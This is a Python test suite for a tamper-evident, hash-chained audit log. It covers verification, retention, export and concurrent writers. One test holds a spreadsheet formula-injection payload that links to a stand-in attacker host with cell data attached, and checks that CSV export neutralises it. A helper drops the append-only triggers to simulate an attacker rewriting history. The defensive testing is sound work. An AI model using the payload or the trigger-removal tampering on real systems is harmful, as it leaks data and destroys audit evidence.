"""The audit log: chained, append-only, tampering found and located, export, retention."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tamper_kit import SCENARIOS, Scenario, StepClock, fill
from tamper_kit import StepClock as Clock

from scheduler.audit import (
    AuditEntry,
    AuditError,
    AuditLog,
    AuditQueryError,
    AuditUnreadable,
    ChainPoint,
    export,
    parse_time,
    verify,
)


def entry(i: int, user: str = "alice", op: str = "jobs.submit") -> AuditEntry:
    return AuditEntry(
        user=user,
        source_ip="127.0.0.1",
        object=f"job/{i}",
        operation=op,
        result="ok",
        reason="200",
        params={"i": i, "note": 'x,"y"\n'},
        correlation_id=f"req-{i}",
    )


def filled(tmp: Path, n: int = 10) -> AuditLog:
    log = AuditLog(tmp / "audit.db", clock=Clock())
    for i in range(1, n + 1):
        log.append(entry(i, user="alice" if i % 2 else "bob"))
    return log


def tamper(path: Path, *sql: str) -> None:
    """What an attacker with file access does: lift the guards, then change history."""
    db = sqlite3.connect(path, isolation_level=None)
    db.execute("DROP TRIGGER audit_no_update")
    db.execute("DROP TRIGGER audit_no_delete")
    for s in sql:
        db.execute(s)
    db.close()


def test_chain_verifies_and_head_is_published(tmp_path: Path) -> None:
    log = filled(tmp_path)
    res = verify(log.path)
    assert res.ok and res.checked == 10
    assert (res.head_seq, res.head_hash) == log.head()
    assert f"ok: 10 records verified, head 10:{log.head()[1]}" == str(res)
    assert verify(log.path, expected_head=ChainPoint(*log.head())).ok
    # An older published head: the chain has grown past it and still holds it.
    older = ChainPoint(*log.head())
    log.append(entry(11))
    assert verify(log.path, expected_head=older).ok


def test_append_only_guard(tmp_path: Path) -> None:
    log = filled(tmp_path, 2)
    db = sqlite3.connect(log.path, isolation_level=None)
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        db.execute("UPDATE audit SET result = 'denied' WHERE seq = 1")
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        db.execute("DELETE FROM audit WHERE seq = 1")


@pytest.mark.parametrize("scenario", SCENARIOS, ids=lambda s: s.name)
def test_tampering_is_found_at_the_right_record(tmp_path: Path, scenario: Scenario) -> None:
    log = AuditLog(tmp_path / "audit.db", clock=StepClock())
    published = fill(log)
    log.close()
    assert verify(log.path).ok and verify(log.path, expected_head=published).ok
    scenario.tamper(log.path)
    res = verify(log.path, expected_head=published)
    assert not res.ok, str(res)
    assert res.bad_seq == scenario.bad_seq, str(res)
    assert re.search(scenario.words, res.problem), res.problem
    assert f"TAMPERED at record {scenario.bad_seq}" in str(res)
    # Without the published head, what the file alone shows is still found.
    alone = verify(log.path)
    assert alone.ok == scenario.needs_published_head, str(alone)
    if not alone.ok:
        assert alone.bad_seq == scenario.bad_seq


def test_a_published_head_from_another_chain_is_refused(tmp_path: Path) -> None:
    log = filled(tmp_path)
    seq, _ = log.head()
    res = verify(log.path, expected_head=ChainPoint(seq, "f" * 64))
    assert not res.ok and res.bad_seq == seq and "not the published one" in res.problem
    res = verify(log.path, expected_head=ChainPoint(seq + 5, "f" * 64))
    assert not res.ok and res.bad_seq == seq + 1 and "past the chain's end" in res.problem


def test_chain_point_parses_seq_and_hash() -> None:
    h = "ab" * 32
    assert ChainPoint.parse(f"42:{h}") == ChainPoint(42, h)
    assert str(ChainPoint(42, h)) == f"42:{h}"
    for bad in ("42", f"x:{h}", f"42:{h[:-1]}", f"42:{h.upper()}", f"-1:{h}"):
        with pytest.raises(ValueError, match="SEQ:HASH"):
            ChainPoint.parse(bad)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (None, "no audit database"),
        (b"", "empty database"),
        (b"this is not sqlite" * 100, "not a readable database"),
    ],
)
def test_unreadable_files_are_not_reported_as_intact_or_tampered(
    tmp_path: Path, content: bytes | None, words: str
) -> None:
    path = tmp_path / "audit.db"
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(AuditUnreadable, match=words):
        verify(path)
    with pytest.raises(AuditUnreadable, match=words):
        export(path, out=io.StringIO())


def test_a_database_that_is_not_an_audit_log_is_unreadable(tmp_path: Path) -> None:
    other = sqlite3.connect(tmp_path / "scheduler.db")
    other.execute("CREATE TABLE jobs (id TEXT)")
    other.close()
    with pytest.raises(AuditUnreadable, match="without the audit tables"):
        verify(tmp_path / "scheduler.db")
    with pytest.raises(AuditUnreadable, match="without the audit tables"):
        export(tmp_path / "scheduler.db", out=io.StringIO())


def test_query_and_export_filters(tmp_path: Path) -> None:
    log = filled(tmp_path)
    t0 = 1_700_000_000.0
    recs = log.query(since=t0 + 3, until=t0 + 7, user="alice")
    assert [r.seq for r in recs] == [3, 5]
    assert [r.seq for r in log.query(limit=2)] == [9, 10]
    buf = io.StringIO()
    n = export(log.path, out=buf, fmt="csv", user="bob", operation="jobs.submit")
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert n == 5 and [int(r["seq"]) for r in rows] == [2, 4, 6, 8, 10]
    assert json.loads(rows[0]["params"]) == {"i": 2, "note": 'x,"y"\n'}
    assert rows[0]["time"].endswith("Z") and rows[0]["source_ip"] == "127.0.0.1"
    buf = io.StringIO()
    export(log.path, out=buf, fmt="jsonl", since="2023-11-14T22:13:25Z")
    lines = [json.loads(x) for x in buf.getvalue().splitlines()]
    assert [x["seq"] for x in lines] == [5, 6, 7, 8, 9, 10]
    assert set(lines[0]) >= {"time", "user", "source_ip", "object", "operation", "params",
                             "result", "reason", "correlation_id"}  # fmt: skip
    with pytest.raises(AuditQueryError):
        export(log.path, out=buf, fmt="xml")
    with pytest.raises(AuditQueryError):
        log.query(since="next tuesday")


def test_parse_time() -> None:
    assert parse_time("1700000000") == 1_700_000_000.0
    assert parse_time("2023-11-14T22:13:20Z") == 1_700_000_000.0
    assert parse_time("2023-11-14T22:13:20") == 1_700_000_000.0  # naive means UTC
    assert parse_time(None) is None


def test_retention_archives_and_the_chain_still_verifies(tmp_path: Path) -> None:
    clock = Clock()
    arch = tmp_path / "audit-archive.db"
    log = AuditLog(tmp_path / "audit.db", clock=clock, retention_seconds=5.5, archive_path=arch)
    for i in range(1, 11):
        log.append(entry(i))
    # now = t0 + 11: records older than t0 + 5.5 (seq 1..5) move.
    assert log.apply_retention() == 5
    assert [r.seq for r in log.query()] == [6, 7, 8, 9, 10]
    # The live log alone starts after record 5: only its archive shows 1..5 exist.
    alone = verify(log.path)
    assert not alone.ok and alone.bad_seq == 1 and "verify with the archive" in alone.problem
    res = verify(log.path, archive=arch)
    assert res.ok and res.checked == 10
    for i in range(11, 16):
        log.append(entry(i))
    assert log.apply_retention() == 5  # 6..10 (11 was written after the first retention run)
    res = verify(log.path, archive=arch)
    assert res.ok and res.checked == 15
    log.close()
    tamper(arch, "UPDATE audit SET result = 'x' WHERE seq = 2")
    res = verify(log.path, archive=arch)
    assert not res.ok and res.bad_seq == 2 and "in the archive" in res.problem


def test_retention_with_a_foreign_archive_is_refused(tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "a.db", clock=Clock())
    for i in range(5):
        log.append(entry(i))
    log.archive(1_700_000_003.5, tmp_path / "arch.db")
    other = AuditLog(tmp_path / "b.db", clock=Clock())
    other.append(entry(1))
    other.archive(1e12, tmp_path / "other-arch.db")
    log.append(entry(9))
    with pytest.raises(AuditError, match="matching archive"):
        log.archive(1e12, tmp_path / "other-arch.db")
    with pytest.raises(AuditError, match="needs an archive_path"):
        AuditLog(tmp_path / "c.db", retention_seconds=1.0)


def test_archiving_resumes_after_a_crash_between_its_two_steps(tmp_path: Path) -> None:
    log = filled(tmp_path, 6)
    arch = tmp_path / "arch.db"
    log.archive(1_700_000_003.5, arch)  # 1..3 archived
    # Simulate the crash: the archive got 4..5, the live log was not trimmed.
    src = sqlite3.connect(log.path)
    rows = src.execute("SELECT * FROM audit WHERE seq IN (4, 5) ORDER BY seq").fetchall()
    src.close()
    a = sqlite3.connect(arch, isolation_level=None)
    a.executemany("INSERT INTO audit VALUES (?,?,?,?,?,?,?,?,?,?,?,?)", rows)
    a.execute("UPDATE chain SET seq = 5, hash = ? WHERE name = 'head'", (rows[-1][-1],))
    a.close()
    assert log.archive(1_700_000_005.5, arch) == 2
    res = verify(log.path, archive=arch)
    assert res.ok and res.checked == 6


@settings(max_examples=40, deadline=None)
@given(
    users=st.lists(st.text(max_size=8), min_size=1, max_size=8),
    victim=st.integers(0, 7),
    field=st.sampled_from(["user", "object", "reason", "ts", "correlation_id"]),
)
def test_any_single_edit_is_detected(
    tmp_path_factory: pytest.TempPathFactory, users: list[str], victim: int, field: str
) -> None:
    tmp = tmp_path_factory.mktemp("edit")
    log = AuditLog(tmp / "audit.db", clock=Clock())
    log.append_many([entry(i, user=u) for i, u in enumerate(users)])
    log.close()
    seq = victim % len(users) + 1
    value = "1.5" if field == "ts" else "'\u00e9dit\u00e9'"
    tamper(tmp / "audit.db", f"UPDATE audit SET {field} = {value} WHERE seq = {seq}")  # noqa: S608
    res = verify(tmp / "audit.db")
    original = users[seq - 1]
    if field == "user" and original == "\u00e9dit\u00e9":
        assert res.ok  # not an edit at all
    else:
        assert not res.ok and res.bad_seq == seq


def test_two_writers_on_one_file_keep_one_chain(tmp_path: Path) -> None:
    """Each writer caches the head; the database refuses a stale one and the writer retries."""
    a = AuditLog(tmp_path / "a.db", clock=Clock())
    b = AuditLog(tmp_path / "a.db", clock=Clock())
    for i in range(4):
        (a if i % 2 else b).append_many([entry(i), entry(i + 10)])
    assert [r.seq for r in a.query()] == list(range(1, 9))
    res = verify(a.path)
    assert res.ok and res.checked == 8
    a.close()
    b.close()


def test_a_record_that_does_not_continue_the_head_is_refused_by_the_database(
    tmp_path: Path,
) -> None:
    log = filled(tmp_path, 2)
    db = sqlite3.connect(log.path, isolation_level=None)
    row = db.execute("SELECT * FROM audit WHERE seq = 2").fetchone()
    forged = (3, *row[1:10], "f" * 64, "e" * 64)  # claims a prev_hash that is not the head's
    with pytest.raises(sqlite3.IntegrityError, match="does not continue the chain head"):
        db.execute("INSERT INTO audit VALUES (?,?,?,?,?,?,?,?,?,?,?,?)", forged)
    db.close()
    assert verify(log.path).ok


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path, start: str) -> None:
    """Formula injection: each cell that starts like a formula gets a leading quote;
    JSON Lines keeps the exact value."""
    log = AuditLog(tmp_path / "audit.db", clock=Clock())
    payload = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
    log.append(
        AuditEntry(
            user=payload,
            source_ip=payload,
            object=payload,
            operation=payload,
            result=payload,
            reason=payload,
            params={"note": "ok"},
            correlation_id=payload,
        )
    )
    log.append(entry(2))  # ordinary values stay as they are
    buf = io.StringIO()
    export(log.path, out=buf, fmt="csv")
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    for name in ("user", "source_ip", "object", "operation", "result", "reason", "correlation_id"):
        assert rows[0][name] == "'" + payload, name
    assert rows[1]["user"] == "alice" and rows[1]["reason"] == "200"
    assert json.loads(rows[1]["params"]) == {"i": 2, "note": 'x,"y"\n'}
    buf = io.StringIO()
    export(log.path, out=buf, fmt="jsonl")
    assert json.loads(buf.getvalue().splitlines()[0])["user"] == payload
